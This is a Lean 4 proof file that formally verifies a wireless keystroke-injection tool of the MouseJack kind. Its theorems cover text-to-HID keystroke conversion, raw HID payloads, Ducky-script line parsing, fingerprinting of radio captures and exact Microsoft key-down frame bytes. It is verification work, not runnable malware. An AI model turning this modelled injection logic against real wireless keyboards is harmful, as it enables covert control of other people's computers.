          stopRequest_ := s.stopRequest_ || decide (n < params.text.length),
          stopReads := s.stopReads + min (n + 1) params.text.length }) ∧
    (s.stopRequest_ = false → (∀ i, env.stopAt i = false) →
      attackBody c env params target s =
        { (params.text.filterMap (fun ch =>
            if ch = 10 then some { modifier := c.HID_MOD_NONE, keycode := c.HID_KEY_ENTER }
            else c.asciiToHid ch)).foldl (stringKey target) s with
          stopRequest_ := false,
          stopReads := s.stopReads + params.text.length }) := by
  have hbody : attackBody c env params target s = stringLoop c env target params.text s := by
    unfold attackBody
    rw [hmode]
  obtain ⟨n, hn, heq, hall⟩ := stringLoop_prefix c env target params.text s
  refine ⟨⟨n, hn, by rw [hbody, heq]⟩, ?_⟩
  intro h0 hq
  have hfull := hall h0 hq
  rw [hbody, heq, hfull, List.take_length, h0]
  simp

theorem string_keystrokes_witness :
    (⟨1, [], 0, [97, 122, 10, 114], [], AttackMode.STRING⟩ : AttackParams).mode =
      AttackMode.STRING ∧
    transmitted (attackBody sampleTaskConsts sampleEnv
      ⟨1, [], 0, [97, 122, 10, 114], [], AttackMode.STRING⟩ (targetAt sampleTargets 1)
      sampleTargets).radio =
      [[0, 193, 0, 4, 0, 0, 0, 0, 0, 59], [0, 193, 0, 0, 0, 0, 0, 0, 0, 63],
       [0, 193, 0, 40, 0, 0, 0, 0, 0, 23], [0, 193, 0, 0, 0, 0, 0, 0, 0, 63],
       [0, 193, 0, 21, 0, 0, 0, 0, 0, 42], [0, 193, 0, 0, 0, 0, 0, 0, 0, 63]] ∧
    attackBody sampleTaskConsts sampleEnv
      ⟨1, [], 0, [97, 122, 10, 114], [], AttackMode.STRING⟩ (targetAt sampleTargets 1)
      sampleTargets =
      { (([97, 122, 10, 114] : List Nat).filterMap (fun ch =>
          if ch = 10 then
            some { modifier := sampleTaskConsts.HID_MOD_NONE,
                   keycode := sampleTaskConsts.HID_KEY_ENTER }
          else sampleTaskConsts.asciiToHid ch)).foldl
          (stringKey (targetAt sampleTargets 1)) sampleTargets with
        stopRequest_ := false,
        stopReads := sampleTargets.stopReads + ([97, 122, 10, 114] : List Nat).length } :=
  ⟨rfl, by decide,
    (string_keystrokes sampleTaskConsts sampleEnv
      ⟨1, [], 0, [97, 122, 10, 114], [], AttackMode.STRING⟩ (targetAt sampleTargets 1)
      sampleTargets rfl).2 rfl (fun _ => rfl)⟩

/-- C29. In a raw-HID attack with a payload of `n` bytes and no stop request, exactly
`n / 2` keystrokes are sent, in order, the `i`-th with modifier `payload[2i]` and keycode
`payload[2i+1]` as they are; a trailing unpaired byte is ignored, and with `n ≤ 1` no
frame is transmitted. -/
theorem raw_keystrokes (c : TaskConsts) (env : AttackEnv) (params : AttackParams)
    (target : MjTarget) (s : State) (hmode : params.mode = AttackMode.RAW_HID)
    (h0 : s.stopRequest_ = false) (hq : ∀ i, env.stopAt i = false) :
    attackBody c env params target s =
      { ((List.range (params.payloadLen / 2)).map
          (fun i => (params.payload.getD (2 * i) 0, params.payload.getD (2 * i + 1) 0))).foldl
          (rawKey target) s with
        stopRequest_ := false, stopReads := s.stopReads + params.payloadLen / 2 } ∧
    ((List.range (params.payloadLen / 2)).map
      (fun i => (params.payload.getD (2 * i) 0, params.payload.getD (2 * i + 1) 0))).length =
      params.payloadLen / 2 ∧
    (params.payloadLen ≤ 1 →
      transmitted (attackBody c env params target s).radio = transmitted s.radio) := by
  have hbody : attackBody c env params target s =
      rawLoop env target params.payload params.payloadLen params.payloadLen 0 s := by
    unfold attackBody
    rw [hmode]
  have hloop := rawLoop_quiet env target params.payload params.payloadLen hq
    params.payloadLen 0 s h0 (by omega)
  simp only [Nat.sub_zero, Nat.zero_add] at hloop
  refine ⟨by rw [hbody, hloop], by rw [List.length_map, List.length_range], ?_⟩
  intro hle
  have hk : params.payloadLen / 2 = 0 := by omega
  rw [hbody, hloop, hk]
  rfl

theorem raw_keystrokes_witness :
    (⟨1, [2, 4, 0, 5, 9], 5, [], [], AttackMode.RAW_HID⟩ : AttackParams).mode =
      AttackMode.RAW_HID ∧
    sampleTargets.stopRequest_ = false ∧ (∀ i, sampleEnv.stopAt i = false) ∧
    transmitted (attackBody sampleTaskConsts sampleEnv
      ⟨1, [2, 4, 0, 5, 9], 5, [], [], AttackMode.RAW_HID⟩ (targetAt sampleTargets 1)
      sampleTargets).radio =
      [[0, 193, 2, 4, 0, 0, 0, 0, 0, 57], [0, 193, 0, 5, 0, 0, 0, 0, 0, 58]] ∧
    attackBody sampleTaskConsts sampleEnv
      ⟨1, [2, 4, 0, 5, 9], 5, [], [], AttackMode.RAW_HID⟩ (targetAt sampleTargets 1)
      sampleTargets =
      { ((List.range (5 / 2)).map
          (fun i => (([2, 4, 0, 5, 9] : List Nat).getD (2 * i) 0,
            ([2, 4, 0, 5, 9] : List Nat).getD (2 * i + 1) 0))).foldl
          (rawKey (targetAt sampleTargets 1)) sampleTargets with
        stopRequest_ := false, stopReads := sampleTargets.stopReads + 5 / 2 } :=
  ⟨rfl, rfl, fun _ => rfl, by decide,
    (raw_keystrokes sampleTaskConsts sampleEnv
      ⟨1, [2, 4, 0, 5, 9], 5, [], [], AttackMode.RAW_HID⟩ (targetAt sampleTargets 1)
      sampleTargets rfl rfl (fun _ => rfl)).1⟩

/-! ## Captures that are not classified -/

/-- C32. A capture that validates at neither alignment (or is shorter than 10 bytes), and
a capture whose validated payload is not classified, leave the whole state as it was:
same registry entries, same count, no notification. A payload of length 10 that begins
`[0x00, 0x99]` is not classified. -/
theorem unclassified_capture_ignored (k : MjConsts) (rawBuf : List Nat) (size channel : Nat)
    (s : State) :
    (fingerprintFrame rawBuf size = none → fingerprint k rawBuf size channel s = s) ∧
    (∀ addr payload L, fingerprintFrame rawBuf size = some (addr, payload, L) →
      fingerprintPayloadType payload L = none → fingerprint k rawBuf size channel s = s) ∧
    (10 ≤ size → size ≤ 37 →
      fingerprintTrial (alignedBuf rawBuf size 0) size = none →
      fingerprintTrial (alignedBuf rawBuf size 1) size = none →
      fingerprintFrame rawBuf size = none) ∧
    (∀ payload : List Nat, payload.getD 0 0 = 0x00 → payload.getD 1 0 = 0x99 →
      fingerprintPayloadType payload 10 = none) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro h
    unfold fingerprint
    rw [h]
  · intro addr payload L h hty
    unfold fingerprint
    rw [h]
    simp only
    unfold fingerprintPayload
    rw [hty]
  · intro h1 h2 t0 t1
    rw [fingerprintFrame_eq rawBuf size h1 h2, t0]
    exact t1
  · intro payload h0 h1
    rw [fingerprintPayloadType_cases, h0, h1]
    simp

theorem unclassified_capture_ignored_witness :
    fingerprintFrame [161, 178, 195, 212, 229, 40, 0, 76, 128, 0, 0, 0, 0, 0, 0, 0, 67, 73, 0]
      19 = some ([161, 178, 195, 212, 229], [0, 153, 0, 0, 0, 0, 0, 0, 0, 0], 10) ∧
    fingerprintPayloadType [0, 153, 0, 0, 0, 0, 0, 0, 0, 0] 10 = none ∧
    fingerprint sampleConsts
      [161, 178, 195, 212, 229, 40, 0, 76, 128, 0, 0, 0, 0, 0, 0, 0, 67, 73, 0] 19 7
      sampleTargets = sampleTargets :=
  ⟨by decide, by decide,
    (unclassified_capture_ignored sampleConsts
      [161, 178, 195, 212, 229, 40, 0, 76, 128, 0, 0, 0, 0, 0, 0, 0, 67, 73, 0] 19 7
      sampleTargets).2.1 [161, 178, 195, 212, 229] [0, 153, 0, 0, 0, 0, 0, 0, 0, 0] 10
      (by decide) (by decide)⟩

/-! ## The buffer of the second pass -/

theorem alignedBuf_one_getD (rawBuf : List Nat) (n i : Nat) (hlen : n ≤ rawBuf.length)
    (hi : i < n) :
    (alignedBuf rawBuf n 1).getD i 0 =
      if i > 0 then ((rawBuf.getD (i - 1) 0 <<< 7) ||| (rawBuf.getD i 0 >>> 1)) % 256
      else (rawBuf.getD i 0 >>> 1) % 256 := by
  unfold alignedBuf
  simp only [if_true]
  have hl : n ≤ (rawBuf.take n).length := by rw [List.length_take]; omega
  rw [shiftRightLoop_getD n _ i hl, if_pos hi]
  have e1 : (rawBuf.take n).getD i 0 = rawBuf.getD i 0 := by
    rw [List.getD_eq_getElem?_getD, List.getD_eq_getElem?_getD, List.getElem?_take_of_lt hi]
  have e2 : (rawBuf.take n).getD (i - 1) 0 = rawBuf.getD (i - 1) 0 := by
    rw [List.getD_eq_getElem?_getD, List.getD_eq_getElem?_getD,
      List.getElem?_take_of_lt (by omega)]
  rw [e1, e2]

theorem shifted_byte_bits (a b : Nat) (hb : b < 256) :
    (((a <<< 7) ||| (b >>> 1)) % 256).testBit 7 = a.testBit 0 ∧
    ∀ j, j < 7 → (((a <<< 7) ||| (b >>> 1)) % 256).testBit j = b.testBit (j + 1) := by
  have h256 : (256 : Nat) = 2 ^ 8 := by norm_num
  constructor
  · rw [h256, Nat.testBit_mod_two_pow, Nat.testBit_or, Nat.testBit_shiftLeft,
      Nat.testBit_shiftRight]
    have h8 : b.testBit (1 + 7) = false := Nat.testBit_eq_false_of_lt (by norm_num; exact hb)
    rw [h8]
    simp
  · intro j hj
    rw [h256, Nat.testBit_mod_two_pow, Nat.testBit_or, Nat.testBit_shiftLeft,
      Nat.testBit_shiftRight]
    have h1 : decide (j < 8) = true := by simp; omega
    have h2 : decide (j ≥ 7) = false := by simp; omega
    rw [h1, h2, Nat.add_comm]
    simp

theorem first_byte_bits (b : Nat) (hb : b < 256) :
    ((b >>> 1) % 256).testBit 7 = false ∧
    ∀ j, j < 7 → ((b >>> 1) % 256).testBit j = b.testBit (j + 1) := by
  have h := shifted_byte_bits 0 b hb
  have e : ((0 <<< 7) ||| (b >>> 1)) = b >>> 1 := by simp
  rw [e] at h
  exact ⟨by rw [h.1]; simp, h.2⟩

/-- C35 (amended). In the offset-1 trial the rebuilt buffer is the raw capture with every
bit moved one place towards the end of the buffer: for every byte index `i` with
`1 ≤ i < size`, bit 7 (the most significant) of rebuilt byte `i` is bit 0 (the least
significant) of raw byte `i - 1`, and bits 6..0 of rebuilt byte `i` are bits 7..1 of raw
byte `i`; byte 0 gets a zero in bit 7. -/
theorem offset_one_bit_shift (rawBuf : List Nat) (n : Nat) (hlen : n ≤ rawBuf.length)
    (hbytes : ∀ b ∈ rawBuf, b < 256) :
    (∀ i, 1 ≤ i → i < n →
      ((alignedBuf rawBuf n 1).getD i 0).testBit 7 = (rawBuf.getD (i - 1) 0).testBit 0 ∧
      ∀ j, j < 7 →
        ((alignedBuf rawBuf n 1).getD i 0).testBit j = (rawBuf.getD i 0).testBit (j + 1)) ∧
    (0 < n →
      ((alignedBuf rawBuf n 1).getD 0 0).testBit 7 = false ∧
      ∀ j, j < 7 →
        ((alignedBuf rawBuf n 1).getD 0 0).testBit j = (rawBuf.getD 0 0).testBit (j + 1)) := by
  constructor
  · intro i h1 hi
    rw [alignedBuf_one_getD rawBuf n i hlen hi, if_pos (by omega)]
    exact shifted_byte_bits _ _ (getD_lt_of_forall rawBuf hbytes i)
  · intro hn
    rw [alignedBuf_one_getD rawBuf n 0 hlen hn, if_neg (by omega)]
    exact first_byte_bits _ (getD_lt_of_forall rawBuf hbytes 0)

theorem offset_one_bit_shift_witness :
    10 ≤ ([0x80, 3, 0, 0, 0, 0, 0, 0, 0, 0] : List Nat).length ∧
    (∀ b ∈ ([0x80, 3, 0, 0, 0, 0, 0, 0, 0, 0] : List Nat), b < 256) ∧
    alignedBuf [0x80, 3, 0, 0, 0, 0, 0, 0, 0, 0] 10 1 = [0x40, 1, 0x80, 0, 0, 0, 0, 0, 0, 0] ∧
    ((alignedBuf [0x80, 3, 0, 0, 0, 0, 0, 0, 0, 0] 10 1).getD 2 0).testBit 7 =
      (([0x80, 3, 0, 0, 0, 0, 0, 0, 0, 0] : List Nat).getD (2 - 1) 0).testBit 0 :=
  ⟨by decide, by decide, by decide,
    ((offset_one_bit_shift [0x80, 3, 0, 0, 0, 0, 0, 0, 0, 0] 10 (by decide) (by decide)).1 2
      (by decide) (by decide)).1⟩

/-- C35 (counterexample). For the capture `[0x80, 0, ..., 0]` of 10 bytes, bit 7 of raw
byte 0 is 1 but bit 0 of rebuilt byte 1 is 0: the bit went to bit 6 of rebuilt byte 0. -/
theorem offset_one_bit_zero_counterexample :
    (([0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0] : List Nat).getD 0 0).testBit 7 = true ∧
    ((alignedBuf [0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0] 10 1).getD 1 0).testBit 0 = false ∧
    alignedBuf [0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0] 10 1 = [0x40, 0, 0, 0, 0, 0, 0, 0, 0, 0] := by
  decide

/-- C38. Every address that `fingerprint` hands to the classifier from an offset-1 trial
has the most significant bit of its first byte clear: `address[0] < 0x80`. -/
theorem offset_one_address_msb (rawBuf : List Nat) (n : Nat) (addr payload : List Nat) (L : Nat)
    (hlen : n ≤ rawBuf.length) (hn : 10 ≤ n) (hbytes : ∀ b ∈ rawBuf, b < 256)
    (h : fingerprintTrial (alignedBuf rawBuf n 1) n = some (addr, payload, L)) :
    addr.getD 0 0 < 0x80 ∧
    (n ≤ 37 → fingerprintTrial (alignedBuf rawBuf n 0) n = none →
      fingerprintFrame rawBuf n = some (addr, payload, L)) := by
  obtain ⟨_, haddr, _⟩ := fingerprintTrial_some _ _ _ _ _ h
  constructor
  · have e : addr.getD 0 0 = (alignedBuf rawBuf n 1).getD 0 0 := by
      rw [haddr, List.getD_eq_getElem?_getD, List.getD_eq_getElem?_getD,
        List.getElem?_take_of_lt (by norm_num)]
    rw [e, alignedBuf_one_getD rawBuf n 0 hlen (by omega), if_neg (by omega)]
    have hb := getD_lt_of_forall rawBuf hbytes 0
    rw [Nat.shiftRight_eq_div_pow]
    omega
  · intro h37 h0
    rw [fingerprintFrame_eq rawBuf n hn h37, h0]
    exact h

theorem offset_one_address_msb_witness :
    10 ≤ ([36, 104, 172, 241, 52, 8, 171, 210, 44, 0] : List Nat).length ∧
    (∀ b ∈ ([36, 104, 172, 241, 52, 8, 171, 210, 44, 0] : List Nat), b < 256) ∧
    fingerprintTrial (alignedBuf [36, 104, 172, 241, 52, 8, 171, 210, 44, 0] 10 0) 10 = none ∧
    fingerprintTrial (alignedBuf [36, 104, 172, 241, 52, 8, 171, 210, 44, 0] 10 1) 10 =
      some ([18, 52, 86, 120, 154], [171], 1) ∧
    ([18, 52, 86, 120, 154] : List Nat).getD 0 0 < 0x80 :=
  ⟨by decide, by decide, by decide, by decide,
    (offset_one_address_msb [36, 104, 172, 241, 52, 8, 171, 210, 44, 0] 10
      [18, 52, 86, 120, 154] [171] 1 (by decide) (by decide) (by decide) (by decide)).1⟩

/-- C36. The script line "CTRL ALT DELETE" on the plain Microsoft target of
`sampleTargets`, with CTRL (modifier 1), ALT (modifier 4) and DELETE (keycode 0x4C) in
the key table: the line is cut at its first space only, "ALT DELETE" is no key name, and
the key-down frame sent carries modifier 1 and keycode 0, not modifier 5 and keycode
0x4C. -/
theorem three_key_names_line :
    lookupKey sampleTaskConsts.DUCKY_KEYS [67, 84, 82, 76] = some ([67, 84, 82, 76], 1, 0) ∧
    lookupKey sampleTaskConsts.DUCKY_KEYS [65, 76, 84] = some ([65, 76, 84], 4, 0) ∧
    lookupKey sampleTaskConsts.DUCKY_KEYS [68, 69, 76, 69, 84, 69] =
      some ([68, 69, 76, 69, 84, 69], 0, 0x4C) ∧
    (transmitted (parseDuckyLine sampleTaskConsts sampleEnv
      [67, 84, 82, 76, 32, 65, 76, 84, 32, 68, 69, 76, 69, 84, 69] 0
      sampleTargets).2.radio).head? = some (msKeyDown (targetAt sampleTargets 0) 1 0 0) ∧
    msKeyDown (targetAt sampleTargets 0) 1 0 0 =
      [8, 0, 0, 0, 0, 0, 67, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 181] ∧
    msKeyDown (targetAt sampleTargets 0) 5 0x4C 0 =
      [8, 0, 0, 0, 0, 0, 67, 5, 0, 76, 0, 0, 0, 0, 0, 0, 0, 0, 253] := by
  decide

/-! ## The second pass as a division by two -/

theorem shift_byte_arith (a b : Nat) (hb : b < 256) :
    ((a <<< 7) ||| (b >>> 1)) % 256 = (a % 2) * 128 + b / 2 := by
  have e1 : a <<< 7 = 2 ^ 7 * a := by rw [Nat.shiftLeft_eq]; ring
  have e2 : b >>> 1 = b / 2 := by simp [Nat.shiftRight_eq_div_pow]
  have e3 : b / 2 < 2 ^ 7 := by norm_num; omega
  rw [e1, e2, ← Nat.mul_add_lt_is_or e3]
  omega

theorem beValue_take_succ (l : List Nat) (m : Nat) (h : m < l.length) :
    Nat.ofDigits 256 (l.take (m + 1)).reverse =
      256 * Nat.ofDigits 256 (l.take m).reverse + l.getD m 0 := by
  rw [take_succ_getD l m h, List.reverse_append, List.reverse_singleton, List.singleton_append,
    Nat.ofDigits_cons]
  ring

/-- The rebuilt byte `m` in terms of the value of the raw bytes before it. -/
theorem alignedBuf_one_value (rawBuf : List Nat) (n m : Nat) (hlen : n ≤ rawBuf.length)
    (hbytes : ∀ b ∈ rawBuf, b < 256) (hm : m < n) :
    (alignedBuf rawBuf n 1).getD m 0 =
      (Nat.ofDigits 256 (rawBuf.take m).reverse % 2) * 128 + rawBuf.getD m 0 / 2 := by
  rw [alignedBuf_one_getD rawBuf n m hlen hm]
  have hb := getD_lt_of_forall rawBuf hbytes m
  cases m with
  | zero =>
    rw [if_neg (by omega), Nat.shiftRight_eq_div_pow]
    simp only [List.take_zero, List.reverse_nil, Nat.ofDigits_nil]
    omega
  | succ j =>
    rw [if_pos (by omega), shift_byte_arith _ _ hb, Nat.add_sub_cancel,
      beValue_take_succ rawBuf j (by omega)]
    omega

/-- C37. For every raw capture of `n` bytes, the buffer rebuilt for the offset-1 trial,
read as a big-endian integer of `8n` bits, is the raw capture read the same way, divided
by 2 and rounded down. -/
theorem offset_one_halves (rawBuf : List Nat) (n : Nat) (hlen : n ≤ rawBuf.length)
    (hbytes : ∀ b ∈ rawBuf, b < 256) :
    Nat.ofDigits 256 (alignedBuf rawBuf n 1).reverse =
      Nat.ofDigits 256 (rawBuf.take n).reverse / 2 := by
  have hal : (alignedBuf rawBuf n 1).length = n := by
    rw [alignedBuf_length]; omega
  have key : ∀ m, m ≤ n →
      Nat.ofDigits 256 ((alignedBuf rawBuf n 1).take m).reverse =
        Nat.ofDigits 256 (rawBuf.take m).reverse / 2 := by
    intro m
    induction m with
    | zero => intro _; simp
    | succ m ih =>
      intro hm
      rw [beValue_take_succ _ m (by omega), beValue_take_succ rawBuf m (by omega),
        ih (by omega), alignedBuf_one_value rawBuf n m hlen hbytes (by omega)]
      omega
  have h := key n (Nat.le_refl n)
  rw [List.take_of_length_le (by omega)] at h
  exact h

theorem offset_one_halves_witness :
    3 ≤ ([0x81, 0x03, 0xFF] : List Nat).length ∧
    (∀ b ∈ ([0x81, 0x03, 0xFF] : List Nat), b < 256) ∧
    alignedBuf [0x81, 0x03, 0xFF] 3 1 = [0x40, 0x81, 0xFF] ∧
    Nat.ofDigits 256 (alignedBuf [0x81, 0x03, 0xFF] 3 1).reverse =
      Nat.ofDigits 256 (([0x81, 0x03, 0xFF] : List Nat).take 3).reverse / 2 :=
  ⟨by decide, by decide, by decide,
    offset_one_halves [0x81, 0x03, 0xFF] 3 (by decide) (by decide)⟩

/-! ## Stability of the target indices -/

/-- What a call of `addTarget` leaves alone: below the count every entry keeps its
address, its length, its type and its `active` flag; the count does not decrease and the
array keeps its size. -/
theorem addTarget_keeps (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) (addr : List Nat)
    (addrLen channel : Nat) (type : MjDeviceType) (s : State) :
    (∀ j, j < s.targetCount_ →
      (targetAt (addTarget k addr addrLen channel type s).2 j).active = (targetAt s j).active ∧
      (targetAt (addTarget k addr addrLen channel type s).2 j).address =
        (targetAt s j).address ∧
      (targetAt (addTarget k addr addrLen channel type s).2 j).addrLen =
        (targetAt s j).addrLen ∧
      (targetAt (addTarget k addr addrLen channel type s).2 j).type = (targetAt s j).type) ∧
    s.targetCount_ ≤ (addTarget k addr addrLen channel type s).2.targetCount_ ∧
    (addTarget k addr addrLen channel type s).2.targets_.length = s.targets_.length := by
  rcases findTarget_cases s addr addrLen with hf | ⟨i, hf, hi⟩
  · by_cases hroom : s.targetCount_ < k.MJ_MAX_TARGETS
    · rw [addTarget_new k addr addrLen channel type s hf hroom]
      refine ⟨?_, ?_, ?_⟩
      · intro j hj
        rw [targetAt_set s _ s.targetCount_ _ j rfl, if_neg (fun h => by omega)]
        exact ⟨rfl, rfl, rfl, rfl⟩
      · show s.targetCount_ ≤ (s.targetCount_ + 1) % 256
        omega
      · show (s.targets_.set _ _).length = _
        rw [List.length_set]
    · rw [addTarget_full k addr addrLen channel type s hf (by omega)]
      exact ⟨fun j _ => ⟨rfl, rfl, rfl, rfl⟩, Nat.le_refl _, rfl⟩
  · rw [addTarget_found k addr addrLen channel type s i hf]
    refine ⟨?_, Nat.le_refl _, ?_⟩
    · intro j _
      rw [targetAt_set s _ i _ j rfl]
      by_cases hji : j = i ∧ i < s.targets_.length
      · rw [if_pos hji, hji.1]
        exact ⟨rfl, rfl, rfl, rfl⟩
      · rw [if_neg hji]
        exact ⟨rfl, rfl, rfl, rfl⟩
    · show (s.targets_.set _ _).length = _
      rw [List.length_set]

/-- An index that `findTarget` returns is still returned after one more `addTarget`. -/
theorem findTarget_stable_step (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255)
    (addr : List Nat) (addrLen channel : Nat) (type : MjDeviceType) (s : State)
    (a : List Nat) (l i : Nat) (h : findTarget s a l = (i : Int)) :
    findTarget (addTarget k addr addrLen channel type s).2 a l = (i : Int) := by
  obtain ⟨hi, hm, hbefore⟩ := (findTarget_eq_iff s a l i).1 h
  obtain ⟨hkeep, hcount, _⟩ := addTarget_keeps k hcap addr addrLen channel type s
  have hmatch : ∀ j, j < s.targetCount_ →
      targetMatches (addTarget k addr addrLen channel type s).2 a l j =
        targetMatches s a l j := fun j hj =>
    targetMatches_congr s _ a l j (hkeep j hj).1 (hkeep j hj).2.2.1 (hkeep j hj).2.1
  rw [findTarget_eq_iff]
  refine ⟨by omega, ?_, ?_⟩
  · rw [hmatch i hi]; exact hm
  · intro j hj
    rw [hmatch j (by omega)]
    exact hbefore j hj

theorem applyOp_add (k : MjConsts) (s : State) (op : RegistryOp) (h : isAdd op = true) :
    ∃ addr addrLen channel type, op = RegistryOp.add addr addrLen channel type ∧
      applyOp k s op = (addTarget k addr addrLen channel type s).2 := by
  cases op with
  | add addr addrLen channel type => exact ⟨addr, addrLen, channel, type, rfl, rfl⟩
  | clear => cases h

theorem findTarget_stable (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) (a : List Nat)
    (l i : Nat) :
    ∀ (ops : List RegistryOp) (s : State), (∀ op ∈ ops, isAdd op = true) →
      findTarget s a l = (i : Int) → findTarget (ops.foldl (applyOp k) s) a l = (i : Int) := by
  intro ops
  induction ops with
  | nil => intro s _ h; exact h
  | cons op rest ih =>
    intro s hops h
    obtain ⟨addr, addrLen, channel, type, _, hop⟩ :=
      applyOp_add k s op (hops op (List.mem_cons_self _ _))
    rw [List.foldl_cons, hop]
    exact ih _ (fun o ho => hops o (List.mem_cons_of_mem _ ho))
      (findTarget_stable_step k hcap addr addrLen channel type s a l i h)

/-- After `addTarget` returned the index `i` for an address, `findTarget` returns `i`
for it. -/
theorem findTarget_after_add (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) (a : List Nat)
    (l channel : Nat) (type : MjDeviceType) (s : State) (i : Nat)
    (hlen : s.targets_.length = k.MJ_MAX_TARGETS) (hl : l ≤ a.length)
    (h : (addTarget k a l channel type s).1 = (i : Int)) :
    findTarget (addTarget k a l channel type s).2 a l = (i : Int) := by
  rcases findTarget_cases s a l with hf | ⟨i', hf, hi'⟩
  · by_cases hroom : s.targetCount_ < k.MJ_MAX_TARGETS
    · obtain ⟨hcount, _, hother, hnew⟩ :=
        addTarget_inserted k a l channel type s hcap hlen hroom hf
      have hidx : (addTarget k a l channel type s).1 = (s.targetCount_ : Int) := by
        rw [addTarget_new k a l channel type s hf hroom]
      have hi : i = s.targetCount_ := by
        rw [hidx] at h
        exact (Int.ofNat_inj.1 h).symm
      rw [hi, findTarget_eq_iff]
      refine ⟨by omega, ?_, ?_⟩
      · unfold targetMatches
        rw [hnew]
        simp only [Bool.true_and, decide_True, take_append_take a _ l hl]
      · intro j hj
        have := (findTarget_eq_neg_one_iff s a l).1 hf j hj
        rw [← this]
        have hj' : j ≠ s.targetCount_ := by omega
        exact targetMatches_congr s _ a l j (by rw [hother j hj']) (by rw [hother j hj'])
          (by rw [hother j hj'])
    · rw [addTarget_full k a l channel type s hf (by omega)] at h
      have : (-1 : Int) = (i : Int) := h
      omega
  · have hidx : (addTarget k a l channel type s).1 = (i' : Int) := by
      rw [addTarget_found k a l channel type s i' hf]
    rw [hidx] at h
    rw [← h]
    exact findTarget_stable_step k hcap a l channel type s a l i' hf

theorem accepts_iff (k : MjConsts) (s : State) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) :
    accepts k s (RegistryOp.add addr addrLen channel type) = true ↔
      findTarget s addr addrLen = -1 ∧ s.targetCount_ < k.MJ_MAX_TARGETS := by
  unfold accepts
  rw [Bool.and_eq_true, decide_eq_true_iff, decide_eq_true_iff]
  constructor
  · rintro ⟨hf, hidx⟩
    refine ⟨hf, ?_⟩
    by_contra hroom
    rw [addTarget_full k addr addrLen channel type s hf (by omega)] at hidx
    have : (-1 : Int) ≥ 0 := hidx
    omega
  · rintro ⟨hf, hroom⟩
    refine ⟨hf, ?_⟩
    rw [addTarget_new k addr addrLen channel type s hf hroom]
    show (s.targetCount_ : Int) ≥ 0
    omega

/-- The count is the number of calls that made a new entry. -/
theorem count_eq_accepted (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) :
    ∀ (ops : List RegistryOp) (s : State), (∀ op ∈ ops, isAdd op = true) →
      (ops.foldl (applyOp k) s).targetCount_ = s.targetCount_ + acceptedCount k s ops := by
  intro ops
  induction ops with
  | nil => intro s _; rfl
  | cons op rest ih =>
    intro s hops
    obtain ⟨addr, addrLen, channel, type, hop, happ⟩ :=
      applyOp_add k s op (hops op (List.mem_cons_self _ _))
    rw [List.foldl_cons, acceptedCount, ih _ (fun o ho => hops o (List.mem_cons_of_mem _ ho)),
      hop]
    have happ2 : applyOp k s (RegistryOp.add addr addrLen channel type) =
        (addTarget k addr addrLen channel type s).2 := rfl
    rw [happ2]
    by_cases hacc : accepts k s (RegistryOp.add addr addrLen channel type) = true
    · rw [if_pos hacc]
      obtain ⟨hf, hroom⟩ := (accepts_iff k s addr addrLen channel type).1 hacc
      have hc : (addTarget k addr addrLen channel type s).2.targetCount_ =
          s.targetCount_ + 1 := by
        rw [addTarget_new k addr addrLen channel type s hf hroom]
        show (s.targetCount_ + 1) % 256 = _
        omega
      rw [hc]
      omega
    · rw [if_neg hacc]
      have hc : (addTarget k addr addrLen channel type s).2.targetCount_ = s.targetCount_ := by
        rcases findTarget_cases s addr addrLen with hf | ⟨i, hf, _⟩
        · have hfull : ¬ s.targetCount_ < k.MJ_MAX_TARGETS := fun hroom =>
            hacc ((accepts_iff k s addr addrLen channel type).2 ⟨hf, hroom⟩)
          rw [addTarget_full k addr addrLen channel type s hf (by omega)]
        · rw [addTarget_found k addr addrLen channel type s i hf]
      rw [hc]
      omega

theorem entries_kept (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) :
    ∀ (ops : List RegistryOp) (s : State), (∀ op ∈ ops, isAdd op = true) →
      (∀ j, j < s.targetCount_ →
        (targetAt (ops.foldl (applyOp k) s) j).active = (targetAt s j).active ∧
        (targetAt (ops.foldl (applyOp k) s) j).address = (targetAt s j).address ∧
        (targetAt (ops.foldl (applyOp k) s) j).addrLen = (targetAt s j).addrLen ∧
        (targetAt (ops.foldl (applyOp k) s) j).type = (targetAt s j).type) ∧
      s.targetCount_ ≤ (ops.foldl (applyOp k) s).targetCount_ ∧
      (ops.foldl (applyOp k) s).targets_.length = s.targets_.length := by
  intro ops
  induction ops with
  | nil => intro s _; exact ⟨fun j _ => ⟨rfl, rfl, rfl, rfl⟩, Nat.le_refl _, rfl⟩
  | cons op rest ih =>
    intro s hops
    obtain ⟨addr, addrLen, channel, type, _, happ⟩ :=
      applyOp_add k s op (hops op (List.mem_cons_self _ _))
    obtain ⟨h1, h2, h3⟩ := addTarget_keeps k hcap addr addrLen channel type s
    obtain ⟨g1, g2, g3⟩ := ih (applyOp k s op) (fun o ho => hops o (List.mem_cons_of_mem _ ho))
    rw [List.foldl_cons]
    rw [happ] at g1 g2 g3 ⊢
    refine ⟨?_, by omega, by rw [g3, h3]⟩
    intro j hj
    obtain ⟨a1, a2, a3, a4⟩ := g1 j (by omega)
    obtain ⟨b1, b2, b3, b4⟩ := h1 j hj
    exact ⟨by rw [a1, b1], by rw [a2, b2], by rw [a3, b3], by rw [a4, b4]⟩

theorem activeBelow_ops (k : MjConsts) :
    ∀ (ops : List RegistryOp) (s : State), ActiveBelow k s →
      ActiveBelow k (ops.foldl (applyOp k) s) := by
  intro ops
  induction ops with
  | nil => intro s h; exact h
  | cons op rest ih =>
    intro s h
    rw [List.foldl_cons]
    apply ih
    cases op with
    | add addr addrLen channel type => exact activeBelow_add k s addr addrLen channel type h
    | clear => exact activeBelow_clear k s

/-- C33. In a run of `addTarget` calls from a cleared registry, with no `clearTargets` in
between: once `addTarget` has returned the index `i` for an address, `findTarget` of that
address returns `i` after every later call; a call that makes a new entry returns the
number of entries made before it, so the entries are in the order of their first
sighting; and every entry present keeps its address, its length and its type and stays
active, while the count never decreases. -/
